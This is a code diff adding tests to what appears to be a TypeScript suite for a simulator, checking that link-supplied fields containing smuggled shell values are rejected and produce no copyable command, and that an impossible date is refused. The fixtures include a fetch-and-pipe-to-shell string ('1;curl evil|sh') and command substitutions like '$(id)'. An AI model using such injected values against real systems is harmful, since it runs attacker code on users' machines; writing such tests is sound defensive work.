@@ -99,6 +99,27 @@ describe('what if', () => {
     }
   });
 
+  it('gives nobody a command to copy that a link has slipped something into', async () => {
+    const slipped = ['1;curl evil|sh', '1 --json', '$(id)', '1\n2', '`id`', "'"];
+    for (const units of slipped) {
+      for (const preset of ['langx', 'lingopod']) {
+        const asked = { ...UNASKED, preset, years: '1', units };
+        const text = await textOf(preset);
+        expect(caught(() => simulateAsked(text, asked))?.details['field'], preset).to.equal('units');
+        expect(commandOf(asked), units).to.equal(null);
+      }
+    }
+    for (const field of ['preset', 'variant', 'from', 'years', 'people', 'price', 'seed'] as const) {
+      for (const text of slipped) expect(commandOf({ ...UNASKED, [field]: text }), field).to.equal(null);
+    }
+  });
+
+  it('takes no day that no month has', async () => {
+    const text = await textOf('tnet');
+    const error = caught(() => simulateAsked(text, { ...UNASKED, preset: 'tnet', years: '1', from: '2027-02-31' }));
+    expect(error?.details['field']).to.equal('from');
+  });
+
   it('answers the page, and never throws', async () => {
     const presets = new Map([['tnet', await textOf('tnet')]]);
     expect(answerTo({ kind: 'run', asked: { ...UNASKED, preset: 'nothing' } }, presets)).to.include({
